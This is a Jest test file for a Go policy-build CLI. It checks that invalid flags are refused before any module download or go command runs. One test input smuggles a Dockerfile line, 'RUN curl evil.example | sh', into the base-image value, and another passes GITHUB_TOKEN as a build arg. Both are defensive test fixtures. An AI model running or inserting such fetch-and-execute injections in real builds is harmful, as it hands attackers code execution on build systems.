/**
 * An invalid platform, label, base image or build arg is refused by the plan, before any
 * module is scanned or downloaded. To show that nothing ran, `go` on PATH is a fake that logs
 * its argv and fails, GOPROXY is a local server that counts requests, and the goscan cache is
 * an empty folder; the manifest lists a remote module beside a local policy, so discovery would
 * start by downloading it.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync
} from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { runCli } from '../cli/run-cli.js'

let root: string
let ws: string
let fakeBin: string
let goLog: string
let goscanCache: string
let server: Server
let proxyUrl: string
let requests: string[] = []
let savedEnv: NodeJS.ProcessEnv

const POLICY = `package local

import "context"

type Policy struct{}

func (Policy) Name() string { return "local" }
func (Policy) Execute(ctx context.Context, input any) (any, error) { return input, nil }
func (Policy) Validate() error { return nil }
`

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'pe-refused-'))
  ws = join(root, 'ws')
  mkdirSync(join(ws, 'policies', 'local'), { recursive: true })
  writeFileSync(join(ws, 'policies', 'local', 'go.mod'), 'module example.com/local\n\ngo 1.22\n')
  writeFileSync(join(ws, 'policies', 'local', 'policy.go'), POLICY)
  writeFileSync(
    join(ws, 'policy-build.yaml'),
    [
      'version: 1',
      'policies:',
      '  - path: ./policies/local',
      '  - module: example.com/x',
      '    version: v1.0.0',
      ''
    ].join('\n')
  )

  fakeBin = join(root, 'bin')
  mkdirSync(fakeBin)
  goLog = join(root, 'go.log')
  writeFileSync(join(fakeBin, 'go'), `#!/bin/sh\necho "go $*" >> '${goLog}'\nexit 1\n`)
  chmodSync(join(fakeBin, 'go'), 0o755)

  server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.writeHead(404).end('not found')
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  proxyUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(async () => {
  await new Promise<void>(done => server.close(() => done()))
  rmSync(root, { recursive: true, force: true })
})

/** The CLI reads process.env (runPipeline's default), so each test sets it and puts it back. */
beforeEach(() => {
  savedEnv = { ...process.env }
  requests = []
  rmSync(goLog, { force: true })
  goscanCache = mkdtempSync(join(root, 'cache-'))
  Object.assign(process.env, {
    PATH: `${fakeBin}${delimiter}${process.env.PATH}`,
    GOPROXY: proxyUrl,
    GOSUMDB: 'off',
    GONOSUMDB: '',
    GOPRIVATE: '',
    GONOPROXY: '',
    GOFLAGS: '',
    POLICY_ENGINE_BUILD_CACHE: goscanCache,
    XDG_CACHE_HOME: join(root, 'xdg')
  })
  delete process.env.GITHUB_ACTIONS
  delete process.env.SOURCE_DATE_EPOCH
})

afterEach(() => {
  for (const name of Object.keys(process.env)) {
    if (!(name in savedEnv)) delete process.env[name]
  }
  Object.assign(process.env, savedEnv)
})

/** Every file under `dir`, relative. */
function filesUnder(dir: string, prefix = ''): string[] {
  if (!existsSync(dir)) return []
  return readdirSync(dir, { withFileTypes: true }).flatMap(entry =>
    entry.isDirectory()
      ? filesUnder(join(dir, entry.name), `${prefix}${entry.name}/`)
      : [`${prefix}${entry.name}`]
  )
}

function goCalls(): string {
  return existsSync(goLog) ? readFileSync(goLog, 'utf8') : ''
}

const BAD_INPUTS: [string, string[]][] = [
  ['platforms', ['--platforms', 'linux/sparc']],
  ['labels', ['--labels', 'maintainer']],
  ['base-image', ['--base-image', 'alpine\nRUN curl evil.example | sh']],
  ['build-args', ['--build-args', 'GITHUB_TOKEN']]
]

const COMMANDS: [string, (out: string) => string[]][] = [
  ['plan', () => ['plan']],
  ['generate', out => ['generate', '--out', out]],
  ['build --output none', out => ['build', '--output', 'none', '--out', out]]
]

const CASES = COMMANDS.flatMap(([command, argv]) =>
  BAD_INPUTS.map(([field, flags]) => [command, field, argv, flags] as const)
)

describe('bad input is refused before discovery runs anything', () => {
  it.each(CASES)('%s with a bad %s', async (_command, field, argv, flags) => {
    const out = join(root, `out-${Math.random().toString(36).slice(2)}`)
    const run = await runCli([...argv(out), ...flags], ws)

    expect(run.code).toBe(2)
    expect(run.stderr).toMatch(new RegExp(`^policy-engine-build: ${field}: `, 'm'))
    expect(run.stdout).toBe('')
    // Nothing ran: no go command, no request to the module proxy, no goscan built.
    expect(goCalls()).toBe('')
    expect(requests).toEqual([])
    expect(filesUnder(goscanCache)).toEqual([])
    expect(existsSync(out)).toBe(false)
  })

  it('every bad input of one run is named at once, still without running anything', async () => {
    const run = await runCli(
      ['build', '--output', 'none', ...BAD_INPUTS.flatMap(([, flags]) => flags)],
      ws
    )
    expect(run.code).toBe(2)
    for (const [field] of BAD_INPUTS) {
      expect(run.stderr).toMatch(new RegExp(`^policy-engine-build: ${field}: `, 'm'))
    }
    expect(goCalls()).toBe('')
    expect(requests).toEqual([])
    expect(filesUnder(goscanCache)).toEqual([])
  })
})

describe('the probes see a run that does start', () => {
  it('valid input reaches the fake go command', async () => {
    const run = await runCli(['plan', '--platforms', 'linux/amd64'], ws)
    expect(run.code).not.toBe(0)
    expect(goCalls()).not.toBe('')
  })

  it('valid input with the real go downloads the remote module through the proxy', async () => {
    process.env.PATH = savedEnv.PATH
    const run = await runCli(['plan', '--platforms', 'linux/amd64'], ws)
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain('example.com/x')
    expect(requests.some(url => url.startsWith('/example.com/x/@v/'))).toBe(true)
  }, 120_000)
})
